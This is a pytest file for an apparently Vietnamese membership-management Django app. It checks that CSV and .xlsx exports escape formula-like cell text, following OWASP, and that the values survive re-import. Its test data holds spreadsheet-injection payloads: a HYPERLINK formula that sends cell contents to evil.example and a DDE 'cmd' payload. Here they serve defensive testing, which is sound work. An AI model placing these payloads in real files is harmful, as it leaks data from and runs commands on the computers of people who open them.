"""Exports never carry a live formula (issue 17, fault 4): text cells of the .xlsx are text,
CSV cells starting like a formula are escaped (OWASP), and the import reads both back
unchanged."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from grassroots.core.tables import escape_formula, unescape_formula
from grassroots.interchange.exporter import export_organization
from grassroots.members.models import Member, MemberEvent
from grassroots.organizations.models import Organization
from tests.interchange.history import history, write_package
from tests.interchange.test_exporter import empty_database

NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "-5 Lò Văn",
    "+84 Tòng Thị",
    "@cmd Quàng",
    "'=Đã có nháy",
    "'Nháy thường",
]
NOTES = ["=1+1", "-2", "@SUM(A1)", "+x", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "-5", "+1", "@x", "\t=1", "\r=1", "'", "'=x", "''", "'a", "a'", "", "Lò Văn"],
)
def test_escape_then_unescape_gives_the_cell_back(cell):
    escaped = escape_formula(cell)
    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert unescape_formula([escaped, "x"]) == [cell, "x"]


def test_unescape_leaves_plain_apostrophes():
    assert unescape_formula(["'a", "b'", "x"]) == ["'a", "b'", "x"]


def _dangerous_history():
    tables = history(communes=1, villages=2, members=12)
    for row, name in zip(tables["members.csv"], NAMES, strict=False):
        row[1] = escape_formula(name)  # the package is CSV: written as the export does
    notes = iter(NOTES)
    for row in tables["member_events.csv"]:
        note = next(notes, None)
        if note is None:
            break
        row[6] = escape_formula(note)
    return tables


def _people():
    return (
        sorted(Member.objects.values_list("code", "full_name")),
        sorted(MemberEvent.objects.values_list("member__code", "date", "kind", "note")),
    )


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", [".zip", ".xlsx"])
def test_export_with_formula_like_text_imports_back_unchanged(tmp_path, run_import, suffix):
    report = run_import(write_package(tmp_path / "goi", _dangerous_history()))
    assert report.ok, report.as_text()
    before = _people()
    assert {name for _, name in before[0]} >= set(NAMES)
    target = tmp_path / f"ra{suffix}"
    export_organization(Organization.objects.get(code="DB-12"), target)

    if suffix == ".zip":
        with zipfile.ZipFile(target) as archive:
            text = archive.read("members.csv").decode("utf-8")
        names = [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:]
        for name in NAMES:
            assert "'" + name in names  # escaped: no cell starts like a formula
        assert not any(n[:1] in "=+-@" for n in names)
    else:
        book = load_workbook(target)
        cells = [c for row in book["members"].iter_rows() for c in row if c.value]
        cells += [c for row in book["member_events"].iter_rows() for c in row if c.value]
        assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
        values = {c.value for c in cells}
        assert set(NAMES) <= values and set(NOTES) <= values

    empty_database()
    report = run_import(target)
    assert report.ok, report.as_text()
    assert _people() == before
